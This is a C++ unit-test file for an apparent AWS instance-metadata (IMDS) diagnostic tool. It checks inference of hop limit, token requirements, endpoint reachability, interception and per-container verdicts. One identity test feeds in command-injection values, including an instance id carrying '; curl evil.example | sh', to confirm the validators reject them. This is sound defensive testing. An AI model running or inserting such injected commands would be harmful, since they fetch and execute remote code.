// Inference: what observations prove about the instance's options and each namespace.
#include "findings.hpp"
#include "inference.hpp"
#include "words.hpp"

#include <gtest/gtest.h>

#include "builders.hpp"

namespace imds {
namespace {

using namespace imds::test;

// ---- Hop limit ----

TEST(HopLimit, HostTtlGivesExactHopLimit) {
  World w;
  w.hop_limit = 3;
  const Diagnosis d = world_diagnosis(w);
  EXPECT_EQ(d.inference.hop_limit.exact, 3);
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::packet_ttl);
  EXPECT_EQ(d.inference.hop_limit.lower, 3);
  EXPECT_EQ(d.inference.hop_limit.upper, 3);
}

TEST(HopLimit, ContainerTtlPlusItsDistanceGivesExactHopLimit) {
  // The host's own PUT had no TTL reading; the container one hop away read 1.
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::token_put, token())}),
      with(target("c1", 1), {observation(Step::token_put, token(1))}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.exact, 2);
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::packet_ttl);
}

TEST(HopLimit, MinTtlSearchGivesExactHopLimitWithoutPacketSockets) {
  World w;
  w.packet_ttl = false;
  Diagnosis d = diagnosis({observe_host(w)}, w);
  d.searched_hop_limit = 2;
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.exact, 2);
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::min_ttl_search);
}

TEST(HopLimit, OneHopContainerWithTokenProvesAtLeastTwo) {
  World w;
  w.hop_limit = 4;
  w.packet_ttl = false;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  EXPECT_EQ(d.inference.hop_limit.exact, std::nullopt);
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::bounds);
  EXPECT_EQ(d.inference.hop_limit.lower, 2);
  EXPECT_EQ(d.inference.hop_limit.upper, kMaxHopLimit);
}

TEST(HopLimit, OneHopContainerWhosePutTimesOutWhileItsGetAnswersProvesAtMostOne) {
  World w;
  w.packet_ttl = false;  // no prediction: the container's PUT really times out
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::bounds);
  EXPECT_EQ(d.inference.hop_limit.upper, 1);
  // lower 1 and upper 1 pin it, but a PUT that never arrived is no measurement: not "exact".
  EXPECT_EQ(d.inference.hop_limit.lower, 1);
  EXPECT_EQ(d.inference.hop_limit.exact, std::nullopt);
}

TEST(HopLimit, ResetInsteadOfTimeoutIsAlsoADroppedPut) {
  World w;
  w.packet_ttl = false;
  w.reset_dropped_puts = true;
  w.tokens = HttpTokens::required;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  EXPECT_EQ(d.inference.hop_limit.upper, 1);
  EXPECT_NE(verdict(d, "c1")->headline().summary.find("reset"), std::string::npos)
      << verdict(d, "c1")->headline().summary;
}

TEST(HopLimit, PutTimeoutWithoutAnyContactProvesNothing) {
  // A firewalled container: no handshake, no GET answer; the hop limit is not why.
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::token_put, token())}),
      cut_off(target("c1", 1), Outcome::timeout),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::none);
  EXPECT_EQ(d.inference.hop_limit.upper, kMaxHopLimit);
}

TEST(HopLimit, PutLostEverywhereIncludingTheHostProvesNoBound) {
  // A hanging (or resetting) IMDS: the host, 0 hops away, lost its PUT answer too, so the
  // container's lost answer says nothing about the hop limit.
  for (Outcome lost : {Outcome::timeout, Outcome::reset}) {
    Diagnosis d = diagnosis({
        with(host_target(), {observation(Step::token_put, failed(lost, true)),
                             observation(Step::v1_get, failed(Outcome::timeout, true))}),
        with(target("c1", 1), {observation(Step::token_put, failed(lost, true)),
                               observation(Step::v1_get, failed(Outcome::timeout, true))}),
    });
    d = finish(std::move(d));
    EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::none) << to_string(lost);
    EXPECT_EQ(d.inference.hop_limit.upper, kMaxHopLimit) << to_string(lost);
  }
}

TEST(HopLimit, TokenOneHopAwayAndDropTwoHopsAwayPinTheHopLimitToTwoWithoutCallingItMeasured) {
  World w;
  w.hop_limit = 2;
  w.packet_ttl = false;
  const Diagnosis d = world_diagnosis(w, {{"bridge", 1}, {"dind", 2}});
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::bounds);
  EXPECT_EQ(d.inference.hop_limit.lower, 2);
  EXPECT_EQ(d.inference.hop_limit.upper, 2);
  EXPECT_EQ(d.inference.hop_limit.exact, std::nullopt);
  EXPECT_EQ(describe_hop_limit(d.inference.hop_limit), "2 (bounds)");
}

TEST(HopLimit, ContainerWithoutDistanceProvesNoBound) {
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::token_put, token())}),
      with(target("c1", std::nullopt), {observation(Step::token_put, token(1))}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::none);
  EXPECT_EQ(d.inference.hop_limit.exact, std::nullopt);
}

TEST(HopLimit, ContradictingBoundsKeepTheTokenThatArrivedAndRaiseAFinding) {
  // Two hops away a token arrived, one hop away the PUT timed out after connecting.
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::token_put, token())}),
      with(target("near", 1), {observation(Step::token_put, failed(Outcome::timeout, true))}),
      with(target("far", 2), {observation(Step::token_put, token())}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.lower, 3);
  EXPECT_EQ(d.inference.hop_limit.upper, kMaxHopLimit);
  EXPECT_LE(d.inference.hop_limit.lower, d.inference.hop_limit.upper);
  const Finding* f = find_finding(d, "hop-limit-bounds-contradict");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_NE(f->detail.find("far got a token 2 hops away"), std::string::npos) << f->detail;
}

TEST(HopLimit, PacketTtlThatContradictsATokenFurtherAwayIsReported) {
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::token_put, token(1))}),
      with(target("c1", 1), {observation(Step::token_put, token())}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.exact, 1);  // the measurement is kept
  EXPECT_NE(find_finding(d, "hop-limit-bounds-contradict"), nullptr);
}

TEST(HopLimit, InterceptorTokenSaysNothingAboutTheHopLimit) {
  HttpResult proxied = token(63);
  proxied.server = "kube2iam";
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::token_put, token())}),
      with(target("pod", 1), {observation(Step::token_put, proxied)}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::none);
}

TEST(HopLimit, TtlOutsideOneToSixtyFourIsNotAHopLimit) {
  Diagnosis d = diagnosis({with(host_target(), {observation(Step::token_put, token(255))})});
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.hop_limit.exact, std::nullopt);
}

// ---- HttpTokens ----

TEST(HttpTokens, TokenlessGetAnswering200MeansOptional) {
  const Diagnosis d = world_diagnosis(World{});
  EXPECT_EQ(d.inference.http_tokens, HttpTokens::optional);
}

TEST(HttpTokens, TokenlessGetAnswering401MeansRequiredWhateverTheBody) {
  for (const char* body : {"", "<title>401 - Unauthorized</title>"}) {
    Diagnosis d = diagnosis({with(host_target(), {observation(Step::v1_get, http(401, body))})});
    d = finish(std::move(d));
    EXPECT_EQ(d.inference.http_tokens, HttpTokens::required) << body;
  }
}

TEST(HttpTokens, NoV1MeansHttpTokensUnknownWithFinding) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  w.probe_v1 = false;
  const Diagnosis d = world_diagnosis(w);
  EXPECT_EQ(d.inference.http_tokens, HttpTokens::unknown);
  const Finding* f = find_finding(d, "v1-not-probed");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::info);
  EXPECT_NE(f->detail.find("IMDSv2 itself works"), std::string::npos) << f->detail;
  EXPECT_NE(f->fix.find("describe-instances --instance-ids i-0123456789abcdef0"), std::string::npos)
      << f->fix;
  EXPECT_EQ(verdict(d, "host")->headline().imdsv1, Tristate::unknown);
  EXPECT_TRUE(is_healthy(d));
}

TEST(HttpTokens, AContainersTokenlessGetTellsWhenTheHostsDidNotAnswer) {
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::v1_get, failed(Outcome::timeout, true))}),
      with(target("c1", 1), {observation(Step::v1_get, http(401))}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.http_tokens, HttpTokens::required);
}

TEST(HttpTokens, TheImdsOwnAnswerWinsOverAnInterceptors) {
  Diagnosis d = diagnosis({
      with(host_target(), {observation(Step::v1_get, http(401))}),
      with(target("pod", 1),
           {observation(Step::v1_get, http(200, "i-0123456789abcdef0", std::string("kiam")))}),
  });
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.http_tokens, HttpTokens::required);
}

// ---- Endpoint ----

TEST(Endpoint, AnsweringImdsMeansEnabled) {
  const Diagnosis d = world_diagnosis(World{});
  EXPECT_EQ(d.inference.endpoint, EndpointState::enabled);
  EXPECT_EQ(d.inference.unreachable_reason, UnreachableReason::none);
}

TEST(Endpoint, ForbiddenPutAndForbiddenGetsMeanDisabled) {
  World w;
  w.endpoint_enabled = false;
  const Diagnosis d = world_diagnosis(w);
  EXPECT_EQ(d.inference.endpoint, EndpointState::disabled);
  EXPECT_EQ(verdict(d, "host")->headline().imdsv2, Tristate::no);
  EXPECT_NE(verdict(d, "host")->headline().summary.find("endpoint disabled"), std::string::npos);
}

TEST(Endpoint, ForbiddenPutWithAnAnsweringGetIsNotDisabled) {
  Diagnosis d = diagnosis({with(host_target(), {observation(Step::token_put, http(403)),
                                                observation(Step::v1_get, http(200, "x"))})});
  d = finish(std::move(d));
  EXPECT_EQ(d.inference.endpoint, EndpointState::enabled);
}

struct UnreachableCase {
  Outcome outcome;
  bool connected;
  UnreachableReason reason;
};

class EndpointUnreachable : public testing::TestWithParam<UnreachableCase> {};

TEST_P(EndpointUnreachable, TransportFailuresNameTheReason) {
  const auto& c = GetParam();
  TargetObservations host = host_target();
  for (Step step : {Step::token_put, Step::v1_get}) {
    host.observations.push_back(observation(step, failed(c.outcome, c.connected)));
  }
  Diagnosis d = finish(diagnosis({std::move(host)}));
  EXPECT_EQ(d.inference.endpoint, EndpointState::unreachable);
  EXPECT_EQ(d.inference.unreachable_reason, c.reason);
  EXPECT_EQ(d.inference.hop_limit.method, HopLimitMethod::none);
  EXPECT_EQ(verdict(d, "host")->headline().imdsv2, Tristate::no);
}

INSTANTIATE_TEST_SUITE_P(
    ReasonPerOutcome, EndpointUnreachable,
    testing::Values(UnreachableCase{Outcome::refused, false, UnreachableReason::refused},
                    UnreachableCase{Outcome::unreachable, false, UnreachableReason::no_route},
                    UnreachableCase{Outcome::timeout, false, UnreachableReason::firewalled},
                    UnreachableCase{Outcome::timeout, true, UnreachableReason::timeout},
                    UnreachableCase{Outcome::reset, true, UnreachableReason::timeout},
                    UnreachableCase{Outcome::error, true, UnreachableReason::intercepted_error}));

TEST(Endpoint, OnlyLocalErrorsLeaveTheEndpointUnknown) {
  Diagnosis d = finish(diagnosis(
      {with(host_target(), {observation(Step::token_put, failed(Outcome::error, false))})}));
  EXPECT_EQ(d.inference.endpoint, EndpointState::unknown);
  EXPECT_NE(find_finding(d, "endpoint-unknown"), nullptr);
  EXPECT_FALSE(is_healthy(d));
}

TEST(Endpoint, InterceptorThatOnlyFailsMakesTheImdsUnreachable) {
  Diagnosis d = finish(diagnosis(
      {with(host_target(), {observation(Step::token_put, http(502, "", std::string("squid"))),
                            observation(Step::v1_get, http(502, "", std::string("squid")))})}));
  EXPECT_EQ(d.inference.endpoint, EndpointState::unreachable);
  EXPECT_EQ(d.inference.unreachable_reason, UnreachableReason::intercepted_error);
}

// ---- IPv6, tags, interception ----

TEST(Ipv6, AnsweredIpv6EndpointMeansEnabled) {
  World w;
  w.ipv6 = true;
  EXPECT_EQ(world_diagnosis(w).inference.ipv6, Tristate::yes);
}

TEST(Ipv6, RefusedOrUnreachableIpv6EndpointMeansDisabled) {
  EXPECT_EQ(world_diagnosis(World{}).inference.ipv6, Tristate::no);  // refused (emulator)
  Diagnosis d = finish(diagnosis({with(
      host_target(), {observation(Step::token_put, failed(Outcome::unreachable), Family::v6)})}));
  EXPECT_EQ(d.inference.ipv6, Tristate::no);
}

TEST(Ipv6, UnprobedOrOnlyTimedOutIpv6IsUnknown) {
  Diagnosis d = finish(diagnosis({with(host_target(), {observation(Step::token_put, token())})}));
  EXPECT_EQ(d.inference.ipv6, Tristate::unknown);
  d = finish(diagnosis(
      {with(host_target(), {observation(Step::token_put, failed(Outcome::timeout), Family::v6)})}));
  EXPECT_EQ(d.inference.ipv6, Tristate::unknown);
}

TEST(Tags, TagsLineInTheListingMeansTagsEnabled) {
  World w;
  w.tags = true;
  EXPECT_EQ(world_diagnosis(w).inference.tags, Tristate::yes);
  EXPECT_EQ(world_diagnosis(World{}).inference.tags, Tristate::no);
}

TEST(Tags, TagsInsideAnotherLineDoNotCount) {
  Diagnosis d = finish(diagnosis(
      {with(host_target(),
            {observation(Step::listing, http(200, "ami-id\nnottags/\ntags/instance\n"))})}));
  EXPECT_EQ(d.inference.tags, Tristate::no);
}

TEST(Tags, TruncatedListingWithoutTagsIsUnknown) {
  HttpResult listing = http(200, "ami-id\nhostname\n");
  listing.body_truncated = true;
  Diagnosis d = finish(diagnosis({with(host_target(), {observation(Step::listing, listing)})}));
  EXPECT_EQ(d.inference.tags, Tristate::unknown);
}

TEST(Interception, InterceptorWithoutEc2wsServerIsFlagged) {
  World w;
  w.hop_limit = 2;
  TargetObservations pod = observe_container(w, "pod", 1);
  for (auto& o : pod.observations) {
    if (o.result.outcome == Outcome::http) o.result.server.reset();
  }
  Diagnosis d = finish(diagnosis({observe_host(w), std::move(pod)}, w));
  EXPECT_EQ(d.inference.interception, Tristate::yes);
  const Finding* f = find_finding(d, "interception-suspected", "pod");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_NE(f->summary.find("no Server header"), std::string::npos) << f->summary;
  EXPECT_EQ(find_finding(d, "interception-suspected", "host"), nullptr);
}

TEST(Interception, ServerHeaderMustBeExactlyEc2ws) {
  Diagnosis d = finish(diagnosis({with(
      host_target(), {observation(Step::v1_get, http(200, "x", std::string("EC2ws/1.0")))})}));
  EXPECT_EQ(d.inference.interception, Tristate::yes);
  EXPECT_EQ(world_diagnosis(World{}).inference.interception, Tristate::no);
}

// ---- Identity ----

TEST(Identity, HostAnswersFillTheInstanceIdentity) {
  const Diagnosis d = world_diagnosis(World{});
  EXPECT_EQ(d.inference.instance.instance_id, "i-0123456789abcdef0");
  EXPECT_EQ(d.inference.instance.ami_id, "ami-0abcdef1234567890");
  EXPECT_EQ(d.inference.instance.region, "us-east-1");
  EXPECT_EQ(d.inference.instance.availability_zone, "us-east-1a");
}

TEST(Identity, ValuesOfTheWrongShapeAreDropped) {
  World w;
  w.instance_id = "i-0123456789abcdef0; curl evil.example | sh";
  w.ami_id = "ami-XYZ";
  w.region = "--profile";
  w.availability_zone = "us-east-1a\x1b[2J";
  const Diagnosis d = world_diagnosis(w);
  EXPECT_EQ(d.inference.instance.instance_id, std::nullopt);
  EXPECT_EQ(d.inference.instance.ami_id, std::nullopt);
  EXPECT_EQ(d.inference.instance.region, std::nullopt);
  EXPECT_EQ(d.inference.instance.availability_zone, std::nullopt);
}

TEST(Identity, ValidatorsAcceptRealShapesOnly) {
  EXPECT_TRUE(is_instance_id("i-0123abcd"));
  EXPECT_TRUE(is_instance_id("i-0123456789abcdef0"));
  EXPECT_FALSE(is_instance_id("i-0123abc"));             // too short
  EXPECT_FALSE(is_instance_id("i-0123456789abcdef01"));  // too long
  EXPECT_FALSE(is_instance_id("i-0123456789ABCDEF0"));   // upper case
  EXPECT_FALSE(is_instance_id("ami-0123456789abcdef0"));
  EXPECT_TRUE(is_ami_id("ami-0abcdef1234567890"));
  EXPECT_FALSE(is_ami_id("ami-0abcdef123456789 "));
  EXPECT_TRUE(is_region("us-gov-west-1"));
  EXPECT_FALSE(is_region("-us-east-1"));
  EXPECT_FALSE(is_region("us-east-1-"));
  EXPECT_FALSE(is_region("us_east_1"));
  EXPECT_FALSE(is_region(""));
  EXPECT_FALSE(is_region(std::string(31, 'a')));
  EXPECT_TRUE(is_availability_zone("us-west-2-lax-1a"));
}

TEST(Identity, TruncatedBodiesAreNotUsed) {
  World w;
  TargetObservations host = observe_host(w);
  for (auto& o : host.observations) o.result.body_truncated = true;
  const Diagnosis d = finish(diagnosis({std::move(host)}, w));
  EXPECT_EQ(d.inference.instance.instance_id, std::nullopt);
}

// ---- Per-target verdicts ----

TEST(Verdict, RequiredTokensAndHopLimitOneBreakBridgeContainers) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 1;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const TargetVerdict* host = verdict(d, "host");
  ASSERT_NE(host, nullptr);
  EXPECT_EQ(host->headline().imdsv2, Tristate::yes);
  EXPECT_EQ(host->headline().imdsv1, Tristate::no);
  const TargetVerdict* c1 = verdict(d, "c1");
  ASSERT_NE(c1, nullptr);
  EXPECT_EQ(c1->headline().imdsv2, Tristate::no);
  EXPECT_EQ(c1->headline().imdsv1, Tristate::no);
  EXPECT_EQ(c1->headline().reachable, Tristate::yes);
  EXPECT_EQ(c1->distance, 1);
  EXPECT_TRUE(c1->headline().predicted);
  EXPECT_EQ(c1->headline().summary,
            "no IMDSv2 token: PUT response dropped after 1 hop (hop limit 1); IMDSv1 rejected "
            "(401): no metadata at all");
}

TEST(Verdict, HopLimitTwoServesBridgeContainersButNotDockerInDocker) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}, {"dind", 2}});
  EXPECT_EQ(verdict(d, "c1")->headline().imdsv2, Tristate::yes);
  EXPECT_EQ(verdict(d, "c1")->headline().summary, "IMDSv2 works (hop limit 2 >= 1 hop + 1)");
  EXPECT_EQ(verdict(d, "dind")->headline().imdsv2, Tristate::no);
  EXPECT_EQ(verdict(d, "dind")->headline().summary,
            "no IMDSv2 token: PUT response dropped after 2 hops (hop limit 2); IMDSv1 rejected "
            "(401): no metadata at all");
}

TEST(Verdict, OptionalTokensLetBridgeContainersFallBackToImdsv1) {
  World w;
  w.packet_ttl = false;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const TargetVerdict* c1 = verdict(d, "c1");
  EXPECT_EQ(c1->headline().imdsv2, Tristate::no);
  EXPECT_EQ(c1->headline().imdsv1, Tristate::yes);
  EXPECT_FALSE(c1->headline().predicted);
  EXPECT_NE(c1->headline().summary.find("tokenless IMDSv1 answers"), std::string::npos) << c1->headline().summary;
}

TEST(Verdict, BlackholedContainerIsUnreachable) {
  World w;
  w.hop_limit = 2;
  const Diagnosis d =
      finish(diagnosis({observe_host(w), cut_off(target("task", 1), Outcome::unreachable)}, w));
  const TargetVerdict* task = verdict(d, "task");
  EXPECT_EQ(task->headline().reachable, Tristate::no);
  EXPECT_EQ(task->headline().imdsv2, Tristate::no);
  EXPECT_EQ(task->headline().imdsv1, Tristate::no);
  EXPECT_EQ(task->headline().summary, "IMDS unreachable: no route (network unreachable)");
  EXPECT_EQ(d.inference.endpoint, EndpointState::enabled);  // the host still reaches it
}

TEST(Verdict, UnenterableNamespaceSaysWhy) {
  TargetObservations broken = target("cni-1234", std::nullopt);
  broken.error = "setns: Operation not permitted";
  const Diagnosis d = finish(diagnosis({observe_host(World{}), std::move(broken)}));
  EXPECT_EQ(verdict(d, "cni-1234")->headline().summary, "not probed: setns: Operation not permitted");
  EXPECT_EQ(verdict(d, "cni-1234")->headline().imdsv2, Tristate::unknown);
  EXPECT_NE(find_finding(d, "target-not-probed", "cni-1234"), nullptr);
}

TEST(Verdict, ThrottledTokenlessAnswerDecidesNothingAboutImdsv1) {
  Diagnosis d = finish(diagnosis({with(host_target(), {observation(Step::token_put, token(1)),
                                                       observation(Step::v1_get, http(429))})}));
  EXPECT_EQ(d.inference.http_tokens, HttpTokens::unknown);
  EXPECT_EQ(verdict(d, "host")->headline().imdsv1, Tristate::unknown);
}

TEST(Verdict, UnenterableNamespaceWithSkippedRequestsSaysWhyToo) {
  TargetObservations broken = target("cni-1234", std::nullopt);
  broken.error = "setns: Operation not permitted";
  broken.observations.push_back(observation(
      Step::token_put, skipped(SkipReason::namespace_not_entered)));
  const Diagnosis d = finish(diagnosis({observe_host(World{}), std::move(broken)}));
  EXPECT_EQ(verdict(d, "cni-1234")->headline().summary, "not probed: setns: Operation not permitted");
  EXPECT_EQ(verdict(d, "cni-1234")->headline().imdsv2, Tristate::unknown);
  EXPECT_EQ(find_finding(d, "container-no-token", "cni-1234"), nullptr);
}

TEST(Verdict, HostWorksWithTheHopLimitNamed) {
  World w;
  w.hop_limit = 2;
  EXPECT_EQ(verdict(world_diagnosis(w), "host")->headline().summary, "IMDSv2 works (hop limit 2)");
}

TEST(Verdict, TokenWithoutDataIsNotImdsv2Working) {
  Diagnosis d = finish(diagnosis({with(host_target(), {observation(Step::token_put, token()),
                                                       observation(Step::v2_get, http(401))})}));
  EXPECT_EQ(verdict(d, "host")->headline().imdsv2, Tristate::no);
  EXPECT_NE(verdict(d, "host")->headline().summary.find("GET with it failed: HTTP 401"), std::string::npos);
}

}  // namespace
}  // namespace imds
